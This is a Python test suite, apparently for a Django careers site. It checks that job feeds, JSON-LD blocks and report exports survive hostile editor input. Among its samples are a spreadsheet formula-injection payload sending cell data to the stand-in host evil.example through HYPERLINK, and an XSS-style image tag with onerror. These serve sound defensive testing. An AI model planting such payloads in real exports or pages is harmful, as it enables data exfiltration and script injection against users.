"""Whatever an editor types, every output stays what it claims to be: the feeds
well-formed XML (also with ``]]>``, ``&`` and control characters), the JSON-LD
a JSON document that cannot end its <script> element early, and the report
exports free of cells a spreadsheet would run as formulas."""

import csv
import io
import json
import re
import xml.etree.ElementTree as ET

import openpyxl
import pytest
from django.core.cache import cache
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from careers.jsonld import script_json
from careers.models import JobPostingPage
from careers.text import xml_safe
from tests import factories

from .conftest import built_once

# db tests (pytest-django runs them before the live-server ones, which flush).
pytestmark = pytest.mark.django_db

ATOM = "{http://www.w3.org/2005/Atom}"
TRICKY = ["]]>", "&", "&amp;", "<", ">", '"', "'", "</script>", "<!--", "\u2028"]
#: Text an editor could store: anything but NUL (which PostgreSQL refuses and
#: Django's forms strip) and lone surrogates (not UTF-8).
editor_text = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
    max_size=40,
)
tricky_text = st.lists(st.sampled_from(TRICKY) | editor_text, min_size=1, max_size=5)
titles = tricky_text.map("".join).filter(lambda t: t.strip())

examples = settings(
    max_examples=30,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)


@pytest.fixture(scope="module")
def job_id(django_db_setup, django_db_blocker):
    def build():
        home = factories.careers_site()
        return factories.job(home, "Warehouse Team Lead", key="job-encoding").pk

    yield from built_once(django_db_blocker, build)


def store(job_id: int, title: str, text: str) -> JobPostingPage:
    """The job with ``title`` and ``text`` as if an editor had published them."""
    JobPostingPage.objects.filter(pk=job_id).update(
        title=title[:255], introduction=f"<p>{text}</p>", requisition_id=title[:64]
    )
    cache.clear()  # rendered feeds are cached by content version
    return JobPostingPage.objects.get(pk=job_id)


def same_text(parsed: str | None, stored: str) -> bool:
    """XML parsers turn CR and CRLF into LF."""
    expected = xml_safe(stored).replace("\r\n", "\n").replace("\r", "\n")
    return (parsed or "") == expected


@given(title=titles, text=tricky_text.map("".join))
@examples
def test_feeds_stay_well_formed(client, job_id, title, text):
    job = store(job_id, title, text)
    rss = ET.fromstring(client.get("/feeds/jobs.rss").content)  # noqa: S314
    item = rss.find("channel/item")
    assert same_text(item.findtext("title"), job.title)
    atom = ET.fromstring(client.get("/feeds/jobs.atom").content)  # noqa: S314
    assert same_text(atom.find(f"{ATOM}entry/{ATOM}title").text, job.title)
    indeed = ET.fromstring(client.get("/feeds/indeed.xml").content)  # noqa: S314
    assert same_text(indeed.findtext("job/title"), job.title)
    assert same_text(indeed.findtext("job/referencenumber"), job.requisition_id)


def json_ld(html: str) -> str:
    """The JSON-LD block as a browser's HTML parser cuts it: up to the first
    ``</script`` in any letter case."""
    start = html.index('<script type="application/ld+json">') + len(
        '<script type="application/ld+json">'
    )
    end = html.lower().index("</script", start)
    return html[start:end]


@given(title=titles, text=tricky_text.map("".join))
@examples
def test_json_ld_cannot_be_broken_out_of(client, job_id, title, text):
    job = store(job_id, title, text)
    block = json_ld(client.get(job.url).content.decode())
    assert "<" not in block and ">" not in block
    data = json.loads(block)
    assert data["title"] == job.title
    assert data["identifier"]["value"] == job.requisition_id


@given(st.recursive(st.text() | st.integers(), lambda c: st.lists(c, max_size=3)))
@settings(max_examples=300)
def test_script_json_round_trips_and_never_contains_markup(value):
    out = str(script_json({"v": value}))
    assert not set(out) & {"<", ">", "&", "\u2028", "\u2029"}
    assert json.loads(out) == {"v": value}


FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def report(client, export: str) -> bytes:
    response = client.get(reverse("careers_claims_report"), {"export": export})
    assert response.status_code == 200
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_exports_neutralise_formula_cells(admin_client, job_id, db, start):
    title = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
    JobPostingPage.objects.filter(pk=job_id).update(title=title)
    rows = list(csv.reader(io.StringIO(report(admin_client, "csv").decode())))
    cells = [cell for row in rows for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [c for c in cells if c[:1] in FORMULA_STARTS]
    book = openpyxl.load_workbook(io.BytesIO(report(admin_client, "xlsx")))
    values = [cell for row in book.active.iter_rows() for cell in row]
    assert any("HYPERLINK" in str(cell.value) for cell in values)
    assert not [c for c in values if c.data_type == "f"]
    assert not [c for c in values if str(c.value or "")[:1] in FORMULA_STARTS]


def test_the_report_escapes_titles_in_html(admin_client, job_id, db):
    JobPostingPage.objects.filter(pk=job_id).update(title="<img src=x onerror=1>")
    html = admin_client.get(reverse("careers_claims_report")).content.decode()
    assert "<img src=x onerror=1>" not in html
    assert re.search(r"&lt;img src=x onerror=1&gt;", html)
